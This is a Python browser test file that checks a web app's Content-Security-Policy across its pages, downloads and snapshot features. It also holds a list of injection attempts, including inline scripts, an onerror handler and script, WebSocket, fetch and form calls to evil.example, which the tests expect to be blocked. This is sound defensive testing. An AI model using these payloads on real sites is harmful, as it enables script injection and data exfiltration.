"""The Content-Security-Policy, in Chromium: every page works under it, and what a stranger would try does not."""

from __future__ import annotations

import re

import pytest

from tests.browser.driving import go, rerun, settled, share
from tests.long.browser.test_snapshots import DIALOG, freeze
from timeline.web.pages import PAGES

WATCH = """
window.__broken = [];
delete window.showSaveFilePicker;  // its dialog cannot be answered: a table is then saved as in other browsers
document.addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI, sourceFile}) =>
  window.__broken.push(`${effectiveDirective} ${blockedURI} ${sourceFile}`));
"""
TRIES = {
    "a script in the page": "const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
    " document.head.append(s)",
    "a handler in the page": "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=window.__ran=1>')",
    "text as a script": "setTimeout('window.__ran = 1')",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    " document.head.append(s)",
    "a connection elsewhere": "new WebSocket('wss://evil.example/')",
    "a request elsewhere": "fetch('https://evil.example/').catch(() => 0)",
    "a form sent elsewhere": "const f = document.createElement('form'); f.action = 'https://evil.example/';"
    " document.body.append(f); f.submit()",
}
FORBIDDEN = ["script-src-elem", "script-src-attr", "script-src", "script-src-elem", *["connect-src"] * 2, "form-action"]


@pytest.fixture
def watched(open_page):
    """A page that notes what its policy forbids; `broken` is the list."""
    page = open_page()
    page.add_init_script(WATCH)
    return page


def broken(page) -> list[str]:
    """What the policy has kept from happening, but for one thing that Streamlit tries and does without.

    Its numbers of 64 bits would be multiplied by WebAssembly; it catches the refusal and goes on in JavaScript.
    """
    told = page.evaluate("window.__broken")
    return [line for line in told if not re.fullmatch(r"script-src wasm-eval \S+/protobuf\.[\w-]+\.js", line)]


@pytest.mark.parametrize("path", [page.path for page in PAGES])
def test_every_page_with_its_charts_tables_and_downloads_stays_within_the_policy(serve, watched, path):
    watched.goto(f"{serve().url}/{path.removeprefix('timeline')}?theme=diplomacy")
    settled(watched, needs=None)
    for fold in watched.locator("details.as-table").all():
        fold.locator("summary").click()
        fold.locator("table").first.wait_for()
    for drawer in watched.get_by_test_id("stMain").get_by_text("View as table").all():
        if not drawer.evaluate("one => one.closest('details.as-table')"):
            with rerun(watched, needs=None):
                drawer.click()
    with rerun(watched, needs=None):
        share(watched).get_by_role("button", name="Download").click()
    with watched.expect_download():
        watched.locator(DIALOG).get_by_role("button", name="Web page").click()
    for save in watched.get_by_role("button", name="Download as CSV").all():
        with watched.expect_download():
            save.dispatch_event("click")  # it comes under the pointer only
    assert broken(watched) == []


def test_freezing_citing_and_the_frozen_page_stay_within_the_policy(serve, watched):
    go(watched, serve().url + "/?q=anchorage")
    link = freeze(watched, "Within the policy")
    watched.locator(DIALOG).get_by_text("BibTeX", exact=True).click()
    watched.locator(DIALOG).get_by_text("@online{").wait_for()
    assert broken(watched) == []
    with watched.expect_download():
        watched.locator(DIALOG).get_by_role("button", name="Web page").click()
    assert broken(watched) == []
    watched.goto(link)
    assert broken(watched) == []
    watched.goto(f"{serve().url}/snapshots?before={link.rpartition('/')[2]}")
    settled(watched, needs=".since")
    assert broken(watched) == []


def test_what_a_stranger_would_try_does_not_run(serve, watched, console_errors, outside_requests):
    go(watched, serve().url)
    for code in TRIES.values():
        watched.evaluate(f"() => {{ {code} }}")
    watched.wait_for_function(f"window.__broken.length >= {len(TRIES)}")
    assert sorted(line.split()[0] for line in broken(watched)) == sorted(FORBIDDEN)
    assert watched.evaluate("window.__ran") is None
    console_errors.clear()
    outside_requests.clear()  # what was blocked counts as asked for
